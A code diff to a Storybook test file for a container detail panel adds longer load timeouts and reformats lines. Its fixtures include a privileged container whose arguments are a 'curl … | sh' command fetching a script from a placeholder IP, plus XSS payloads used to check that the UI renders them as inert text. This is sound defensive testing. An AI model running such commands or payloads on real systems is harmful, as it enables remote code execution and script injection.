@@ -22,12 +22,16 @@ const meta = {
 export default meta;
 type Story = StoryObj<typeof meta>;
 
-const field = (canvasElement: HTMLElement, label: string) => within(canvasElement).getByText(label, { selector: 'dt' }).closest('.detail-field') as HTMLElement;
+/** The record arrives through MSW: wait for it longer than the default second on a busy machine. */
+const LOADED = { timeout: 15_000 };
+
+const field = (canvasElement: HTMLElement, label: string) =>
+  within(canvasElement).getByText(label, { selector: 'dt' }).closest('.detail-field') as HTMLElement;
 
 export const Done: Story = {
   play: async ({ canvasElement }) => {
     const canvas = within(canvasElement);
-    await expect(await canvas.findByText('payments-api')).toBeVisible();
+    await expect(await canvas.findByText('payments-api', undefined, LOADED)).toBeVisible();
     await expect(field(canvasElement, 'Image ID')).toHaveTextContent('registry.northwind-trading.example/payments/api@sha256:');
     await expect(field(canvasElement, 'Status')).toHaveTextContent('running');
     // Only the first port (spec 001 §2.11).
@@ -46,7 +50,7 @@ export const Privileged: Story = {
     msw.use(containerHandlers.privileged());
   },
   play: async ({ canvasElement }) => {
-    await within(canvasElement).findByText('node-debugger');
+    await within(canvasElement).findByText('node-debugger', undefined, LOADED);
     await expect(field(canvasElement, 'Security context')).toHaveTextContent('privileged: true');
     await expect(field(canvasElement, 'Arguments')).toHaveTextContent('curl -s http://203.0.113.45/x.sh | sh');
     await settleFrame();
@@ -59,11 +63,15 @@ export const LongLists: Story = {
   },
   play: async ({ canvasElement }) => {
     const canvas = within(canvasElement);
-    const env = await canvas.findByRole('list', { name: 'Environment variables' });
+    const env = await canvas.findByRole('list', { name: 'Environment variables' }, LOADED);
     await expect(within(env).getAllByRole('listitem')).toHaveLength(10);
     await userEvent.click(within(field(canvasElement, 'Environment variables')).getByRole('button', { name: 'View more (40)' }));
     await expect(within(env).getAllByRole('listitem')).toHaveLength(50);
-    await expect(within(field(canvasElement, 'Arguments')).getByRole('button', { name: 'View more (20)' })).toBeVisible();
+    await expect(
+      within(field(canvasElement, 'Arguments')).getByRole('button', {
+        name: 'View more (20)',
+      }),
+    ).toBeVisible();
     await expect(field(canvasElement, 'Port')).toHaveTextContent('8000');
     await expect(canvasElement.firstElementChild?.scrollWidth).toBeLessThanOrEqual((canvasElement.firstElementChild?.clientWidth ?? 0) + 1);
     await settleFrame();
@@ -75,8 +83,18 @@ export const EmptyFields: Story = {
     msw.use(containerHandlers.empty());
   },
   play: async ({ canvasElement }) => {
-    await within(canvasElement).findByText('Image ID');
-    for (const label of ['Name', 'Image ID', 'Status', 'Port', 'Volume mounts', 'Command', 'Arguments', 'Environment variables', 'Security context']) {
+    await within(canvasElement).findByText('Image ID', undefined, LOADED);
+    for (const label of [
+      'Name',
+      'Image ID',
+      'Status',
+      'Port',
+      'Volume mounts',
+      'Command',
+      'Arguments',
+      'Environment variables',
+      'Security context',
+    ]) {
       await expect(field(canvasElement, label)).toHaveTextContent('-');
     }
     await settleFrame();
@@ -89,8 +107,10 @@ export const HostileValues: Story = {
   },
   play: async ({ canvasElement }) => {
     const canvas = within(canvasElement);
-    await expect(await canvas.findAllByText('<script>window.__pwned=true</script>')).not.toHaveLength(0);
-    await expect(field(canvasElement, 'Environment variables')).toHaveTextContent('<img src=x onerror="window.__pwned=true">=<script>window.__pwned=true</script>');
+    await expect(await canvas.findAllByText('<script>window.__pwned=true</script>', undefined, LOADED)).not.toHaveLength(0);
+    await expect(field(canvasElement, 'Environment variables')).toHaveTextContent(
+      '<img src=x onerror="window.__pwned=true">=<script>window.__pwned=true</script>',
+    );
     await expect(canvasElement.querySelector('img, script, svg[onload]')).toBeNull();
     await expect((window as { __pwned?: boolean }).__pwned).toBeUndefined();
   },
@@ -101,7 +121,11 @@ export const Loading: Story = {
     msw.use(containerHandlers.loading());
   },
   play: async ({ canvasElement }) => {
-    await expect(within(canvasElement).getByRole('status', { name: 'Loading the container…' })).toHaveAttribute('aria-busy', 'true');
+    await expect(
+      within(canvasElement).getByRole('status', {
+        name: 'Loading the container…',
+      }),
+    ).toHaveAttribute('aria-busy', 'true');
   },
 };
 
@@ -110,7 +134,7 @@ export const NotFound: Story = {
     msw.use(containerHandlers.notFound());
   },
   play: async ({ canvasElement }) => {
-    await expect(await within(canvasElement).findByText('No data')).toBeVisible();
+    await expect(await within(canvasElement).findByText('No data', undefined, LOADED)).toBeVisible();
   },
 };
 
@@ -119,7 +143,7 @@ export const ServerError: Story = {
     msw.use(containerHandlers.serverError());
   },
   play: async ({ canvasElement }) => {
-    const alert = await within(canvasElement).findByRole('alert');
+    const alert = await within(canvasElement).findByRole('alert', undefined, LOADED);
     await expect(alert).toHaveTextContent(/could not be loaded/);
     await expect(within(alert).getByRole('button', { name: 'Retry' })).toBeEnabled();
   },
